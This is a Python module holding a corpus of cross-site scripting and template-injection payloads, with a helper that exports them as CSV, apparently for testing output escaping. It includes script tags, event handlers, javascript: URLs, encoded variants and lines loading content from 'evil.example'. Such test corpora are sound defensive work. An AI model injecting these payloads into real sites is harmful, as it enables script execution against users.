"""Texts that become markup, a script, a request or a template where they are not escaped for their place."""

from __future__ import annotations

CORPUS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<div hx-get=/console/settings hx-trigger=load hx-on::load=alert(1)>",
    "<p data-hx-get='/console/settings' data-hx-trigger='load'>",
    "<textarea data-family=toml data-problems='[]'>",
    "x' onmouseover='alert(1)' y='",
    'x" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "`-alert(1)-`${alert(1)}",
    "javascript:alert(1)//",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</title></style></textarea></script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\u2028<script>alert(1)</script>\u2029\u202e",
    "{{!'<script>alert(1)</script>'}}",
    "{{7*7}}",
    "<% alert(1) %>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def as_rows() -> str:
    """Return an inventory that has each text in a cell."""
    rows = (f'corpus-{at},"{text.replace(chr(34), chr(34) * 2)}"' for at, text in enumerate(CORPUS))
    return "id,note\n" + "\n".join(rows) + "\n"
